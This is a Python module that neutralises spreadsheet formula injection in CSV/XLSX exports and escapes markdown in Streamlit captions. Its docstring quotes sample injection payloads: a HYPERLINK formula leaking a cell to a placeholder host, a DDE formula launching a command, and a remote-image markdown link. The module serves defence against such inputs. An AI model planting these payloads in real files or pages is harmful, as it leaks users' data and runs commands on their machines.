"""Making data inert where it is shown or written: spreadsheet cells and markdown.

One module for the rules, with no dependency (no streamlit, no duckdb), because three places
that must not import each other use them: the page downloads (pie/ui/downloads.py), the CLI
export (pie/ingest/export.py) and the pages' captions (pie/ui, pages/). pie/i18n.py is about
translations; these rules are about untrusted text, and keeping them apart lets the importer
and the CLI use them without pulling in the translation machinery.

- Spreadsheets (CSV and XLSX): a text cell starting with = + - @ tab or CR is run by Excel and
  LibreOffice as a formula (`=HYPERLINK("http://x/?leak="&A2)`, `=cmd|' /C calc'!A0`). Such a
  cell gets a leading apostrophe (OWASP's advice), in both formats; so does a text starting
  with an apostrophe followed by one of those characters or another apostrophe, so the
  importer (pie/ingest/parse.py, `pie_unquote`) can drop exactly one apostrophe and an export
  re-imports to the same text. Numbers are never touched (-3 is a number, not a formula).
- Markdown (st.markdown, st.caption, st.info…, metric labels, help texts): Streamlit escapes
  HTML but not markdown, so a name such as `![t](http://x/p.png)` would make every browser
  fetch that image and `[x](https://…)` would become a link. `escape_markdown` makes a value
  from data read literally: backslash-escapes of markdown's punctuation (links, images,
  emphasis, headings, lists, tables, LaTeX `$`, Streamlit's `:red[…]` directives and
  `:material/…:` icons, autolinks), newlines folded into spaces, bidi controls removed.
"""
from __future__ import annotations

import re

# Text a spreadsheet would run as a formula starts with one of these.
FORMULA_START = "=+-@\t\r"
# The texts that get the apostrophe: Python `re` and DuckDB (RE2) read this pattern alike.
FORMULA_PATTERN = r"^[=+\-@\t\r]|^'[=+\-@\t\r']"
_FORMULA_RE = re.compile(FORMULA_PATTERN)

# Markdown punctuation that opens a construct anywhere in a line for Streamlit's renderer
# (CommonMark + GFM + math + directives): emphasis, code, links and images, autolinks and raw
# HTML, tables, strikethrough, LaTeX, `:red[…]` directives, `:material/…:` icons (Streamlit
# rewrites `:material/` before parsing, so the `/` is escaped too), entities, headings.
# Hyphens, dots, parentheses and apostrophes are common in names (Souss-Massa, S.A.R.L.) and
# are escaped only where they act: at the start (lists, quotes, headings) and in `www.`.
_MARKDOWN_SPECIAL = set("\\`*_[]{}#!|<>~$:&/")
_LINE_START = re.compile(r"^(\s*)([-+=>]|\d+(?=[.)]))")
_WWW = re.compile(r"(?i)(www)\.")
# Explicit bidi embeddings, overrides and isolates (they reorder what follows them).
BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_LINE_BREAKS = re.compile(r"[\r\n\u2028\u2029\u0085\x0b\x0c]+")


def neutralise_formula(value: object) -> object:
    """`value` as a spreadsheet cell must hold it: a text a spreadsheet would run as a formula
    gets a leading apostrophe; anything that is not a text (numbers, dates, None) is returned
    as is."""
    if isinstance(value, str) and _FORMULA_RE.match(value):
        return "'" + value
    return value


def is_formula_like(value: object) -> bool:
    """True when a spreadsheet would run `value` as a formula (tests and checks)."""
    return isinstance(value, str) and bool(value) and value[0] in FORMULA_START


def strip_bidi(text: str) -> str:
    """`text` without explicit bidi embeddings, overrides and isolates."""
    return text.translate({ord(c): None for c in BIDI_CONTROLS})


def escape_markdown(value: object) -> str:
    """`value` (a name, a code, free text from data) as markdown that renders as its own text:
    no link, image, emphasis, heading, list, LaTeX, directive or icon; one line."""
    text = _LINE_BREAKS.sub(" ", strip_bidi(str(value)))
    text = "".join("\\" + c if c in _MARKDOWN_SPECIAL else c for c in text)
    text = _WWW.sub(r"\1\\.", text)  # www.x.ma would become a link (GFM autolink literal)
    match = _LINE_START.match(text)
    if match:  # a list item, a block quote or a setext line when the value starts a line
        if match.group(2)[0].isdigit():
            end = match.end()
            return text[:end] + "\\" + text[end:]
        return text[:match.start(2)] + "\\" + text[match.start(2):]
    return text
